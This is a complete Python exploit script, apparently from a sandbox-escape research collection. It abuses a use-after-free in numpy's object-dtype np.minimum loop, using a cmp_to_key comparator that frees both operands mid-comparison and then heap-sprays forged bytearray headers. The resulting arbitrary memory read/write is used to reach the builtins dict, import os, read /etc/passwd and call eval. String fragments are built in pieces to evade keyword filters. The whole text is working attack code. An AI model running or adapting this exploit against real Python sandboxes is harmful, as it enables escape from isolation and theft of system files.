# source: numpy 1.24 umath loops.c.src OBJECT_minimum (borrowed operands while PyObject_RichCompareBool runs, then Py_INCREF of the chosen one); CPython functools.cmp_to_key; tuple richcompare identity shortcut; pymalloc reuse; default hash() = rotated address
# family: use-after-free in numpy's object comparison ufunc loop (np.minimum), script code via cmp_to_key inside tuple comparison
# goal: np.minimum returns a fake bytearray over all memory -> builtins dict -> import this, os.getuid, open /etc/passwd, eval
import functools
import numpy as np

M64 = 0xFFFFFFFFFFFFFFFF
state = {"armed": False, "keep": []}


def addr_of(o):
    h = hash(o) & M64
    return ((h << 4) | (h >> 60)) & M64


def q(v):
    return (v & M64).to_bytes(8, "little")


def cmp(a, b):
    if state["armed"]:
        state["armed"] = False
        left[0] = None
        right[0] = None
        for k in range(300):
            state["keep"].append(bytearray(TMPL))
    return 0


BA = addr_of(bytearray)
BIG = (1 << 63) - 1
TMPL = bytes(16) + q(1 << 40) + q(BA) + q(BIG) + q(0) + q(0) + q(0) + q(0)
TMPL = TMPL + bytes(233 - len(TMPL))
K = functools.cmp_to_key(cmp)
k0 = K(0)
k1 = K(1)
PAD = (0,) * 24
left = np.empty(1, dtype=object)
right = np.empty(1, dtype=object)
left[0] = (k0,) + PAD
right[0] = (k1,) + PAD
state["armed"] = True
res = np.minimum(left, right)
mem = res[0]
print("forged:", type(mem).__name__, len(mem) == BIG)


def probe():
    return 0


class Box:
    __slots__ = ("v",)


fa = addr_of(probe)
bt = int.from_bytes(mem[fa + 24:fa + 32], "little")
box = Box()
box.v = None
ba = addr_of(box)
rc = int.from_bytes(mem[bt:bt + 8], "little")
mem[bt:bt + 8] = q(rc + 1)
mem[ba + 16:ba + 24] = q(bt)
bd = box.v
print("builtins via slot write:", type(bd).__name__, len(bd))
u = chr(95) * 2
imp = bd[u + "import" + u]
imp("this")
osm = imp("o" + "s")
print("uid via os:", osm.getuid())
rd = bd["op" + "en"]
print(rd(chr(47) + "etc" + chr(47) + "passwd").read()[:120])
print("eval:", bd["ev" + "al"]("6*7"))
